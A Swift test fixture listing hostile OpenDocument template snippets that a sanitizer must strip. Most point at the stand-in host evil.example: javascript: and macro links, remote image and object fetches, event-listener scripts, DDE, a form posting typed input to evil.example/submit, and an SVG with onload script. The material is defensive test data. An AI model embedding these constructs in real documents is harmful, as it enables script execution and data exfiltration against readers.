import Documents
import Foundation
import Testing

/// What a template holds that must be nowhere in what is made of it.
struct HostileTemplate: Sendable, CustomTestStringConvertible {
  let name: String
  let body: String
  var automatic = ""
  var styles = ""
  var header = ""
  /// What a reader still sees.
  var shows = "ab"

  var testDescription: String { name }

  var template: [UInt8] {
    flat(body, styles: styles, automatic: automatic, header: header)
  }

  /// In every attack stands this word, in what would be fetched, run or told.
  static let evil = "evil.example"
  private static let picture = " svg:width=\"1cm\" svg:height=\"1cm\" draw:name=\"P\""

  private static func p(_ inside: String) -> String { "<text:p>a\(inside)b</text:p>" }

  private static let links = [
    "file:///etc/evil.example", "macro:///Standard.evil.example()", "javascript:evil.example()",
    "vnd.sun.star.script:evil.example?language=Basic", "vnd.sun.star.expand:evil.example",
    "data:text/html,evil.example", "smb://evil.example/x", "\\\\evil.example\\x",
    "//evil.example/x",
    "../../evil.example.odt", "ftp://evil.example", " javascript:evil.example",
    "JavaScript:evil.example",
    "java\tscript:evil.example", ".uno:evil.example", "service:evil.example", "",
  ].map { link in
    HostileTemplate(
      name: "a link to \(link.debugDescription)",
      body: p(
        "<text:a xlink:type=\"simple\" xlink:href=\"\(link.replacingOccurrences(of: "\t", with: "&#9;"))\">"
          + "x</text:a>"), shows: "axb")
  }

  private static let fetched = ["http://evil.example/x", "file:///evil.example", "../evil.example"]
    .flatMap { link -> [HostileTemplate] in
      let href = "xlink:type=\"simple\" xlink:href=\"\(link)\""
      return [
        HostileTemplate(
          name: "a picture from \(link)",
          body: p("<draw:frame\(picture)><draw:image \(href)/></draw:frame>")),
        HostileTemplate(
          name: "an object from \(link)",
          body: p("<draw:frame\(picture)><draw:object \(href)/><draw:image \(href)/></draw:frame>")),
        HostileTemplate(
          name: "an OLE object from \(link)",
          body: p("<draw:frame\(picture)><draw:object-ole \(href)/></draw:frame>")),
        HostileTemplate(
          name: "a frame that shows \(link)",
          body: p("<draw:frame\(picture)><draw:floating-frame \(href)/></draw:frame>")),
        HostileTemplate(
          name: "a film from \(link)",
          body: p("<draw:frame\(picture)><draw:plugin \(href)/></draw:frame>")),
        HostileTemplate(
          name: "an applet from \(link)",
          body: p("<draw:frame\(picture)><draw:applet \(href) draw:code=\"x\"/></draw:frame>")),
        HostileTemplate(
          name: "a section from \(link)",
          body:
            "<text:section text:name=\"S\"><text:section-source \(href)/>\(p(""))</text:section>"),
        HostileTemplate(
          name: "a word list from \(link)",
          body: "<text:alphabetical-index-auto-mark-file \(href)/>" + p("")),
        HostileTemplate(
          name: "a background from \(link)", body: p(""),
          automatic: "<style:style style:name=\"X\" style:family=\"paragraph\">"
            + "<style:paragraph-properties><style:background-image \(href)/>"
            + "</style:paragraph-properties></style:style>"),
        HostileTemplate(
          name: "a filling from \(link)", body: p(""),
          styles: "<draw:fill-image draw:name=\"F\" \(href)/>"),
        HostileTemplate(
          name: "a bullet from \(link)", body: p(""),
          styles: "<text:list-style style:name=\"L\"><text:list-level-style-image text:level=\"1\""
            + " \(href)/></text:list-style>"),
        HostileTemplate(
          name: "a table from \(link)",
          body: p("")
            + "<table:table table:name=\"T\"><table:table-source \(href)/><table:table-column"
            + "/><table:table-row><table:table-cell/></table:table-row></table:table>"),
      ]
    }

  private static let run: [HostileTemplate] = [
    HostileTemplate(
      name: "a script that runs when a link is touched",
      body: p(
        "<text:a xlink:type=\"simple\" xlink:href=\"https://example.org\"><office:event-listeners>"
          + "<script:event-listener xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
          + " script:language=\"ooo:script\" script:event-name=\"dom:mouseover\""
          + " xlink:href=\"vnd.sun.star.script:evil.example\"/></office:event-listeners>x</text:a>"),
      shows: "axb"),
    HostileTemplate(
      name: "a script in the text",
      body: p("<text:script xlink:type=\"simple\" xlink:href=\"http://evil.example\"/>")
        + "<text:p><text:script>evil.example()</text:script></text:p>"),
    HostileTemplate(
      name: "a macro field",
      body: p("<text:execute-macro text:name=\"evil.example\">run</text:execute-macro>")),
    HostileTemplate(
      name: "a form that sends what is typed",
      body: "<office:forms><form:form xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\""
        + " form:name=\"F\" xlink:href=\"http://evil.example/submit\" form:method=\"post\"/>"
        + "</office:forms>" + p("<draw:control draw:control=\"evil.example\"/>")),
    HostileTemplate(
      name: "DDE",
      body: "<text:dde-connection-decls><text:dde-connection-decl office:name=\"d\""
        + " office:dde-application=\"evil.example\" office:dde-topic=\"t\" office:dde-item=\"i\"/>"
        + "</text:dde-connection-decls>"
        + p("<text:dde-connection text:connection-name=\"evil.example\">x</text:dde-connection>")
        + "<text:section text:name=\"S\"><office:dde-source office:dde-application=\"evil.example\""
        + " office:dde-topic=\"t\" office:dde-item=\"i\"/></text:section>"),
    HostileTemplate(
      name: "a field that reads a database",
      body: p(
        "<text:database-display text:table-name=\"evil.example\" text:column-name=\"c\""
          + " text:table-type=\"table\">x</text:database-display><text:database-next"
          + " text:database-name=\"evil.example\" text:table-name=\"t\"/>"), shows: "axb"),
    HostileTemplate(
      name: "words in an attribute of a field",
      body: p(
        "<text:conditional-text text:condition=\"ooow:1\" text:string-value-if-true=\"evil.example\""
          + " text:string-value-if-false=\"x\">x</text:conditional-text><text:hidden-text"
          + " text:condition=\"ooow:1\" text:string-value=\"evil.example\" text:is-hidden=\"true\"/>"
      ),
      shows: "axb"),
    HostileTemplate(
      name: "another place for all links",
      body: "<text:p xml:base=\"http://evil.example/\">ab</text:p>"),
    HostileTemplate(
      name: "a header that is switched off", body: p(""),
      header: "<style:header><text:p>x</text:p></style:header><style:header-left"
        + " style:display=\"false\"><text:p>evil.example</text:p></style:header-left>"),
    HostileTemplate(
      name: "a style that hides words",
      body: p("<text:span text:style-name=\"H2\">evil.example</text:span>")
        + "<text:p text:style-name=\"HP\">evil.example</text:p>",
      automatic: "<style:style style:name=\"HP\" style:family=\"paragraph\"><style:text-properties"
        + " text:display=\"none\"/></style:style>",
      styles: "<style:style style:name=\"H1\" style:family=\"text\"><style:text-properties"
        + " text:display=\"none\"/></style:style><style:style style:name=\"H2\""
        + " style:family=\"text\" style:parent-style-name=\"H1\"/>"),
    HostileTemplate(
      name: "a drawing that fetches and runs",
      body: p(
        "<draw:frame\(picture)><draw:image><office:binary-data>"
          + Data(drawing.utf8).base64EncodedString() + "</office:binary-data></draw:image>"
          + "<svg:desc>Logo</svg:desc></draw:frame>"), shows: "aLogob"),
    HostileTemplate(
      name: "a font from elsewhere", body: p(""),
      styles: "<style:style style:name=\"X\" style:family=\"text\"/>"),
  ]

  private static let drawing = """
    <?xml-stylesheet href="http://evil.example/x.css"?>
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
      onload="evil.example()"><script>evil.example()</script><style>@import url(http://evil.example);
      </style><image xlink:href="http://evil.example/x.png"/><rect style="fill:url(http://evil.example)"
      fill="red" width="9"/><use href="file:///evil.example"/><a xlink:href="javascript:evil.example"/>
      <foreignObject>evil.example</foreignObject><!-- evil.example --></svg>
    """

  static let all = links + fetched + run
}
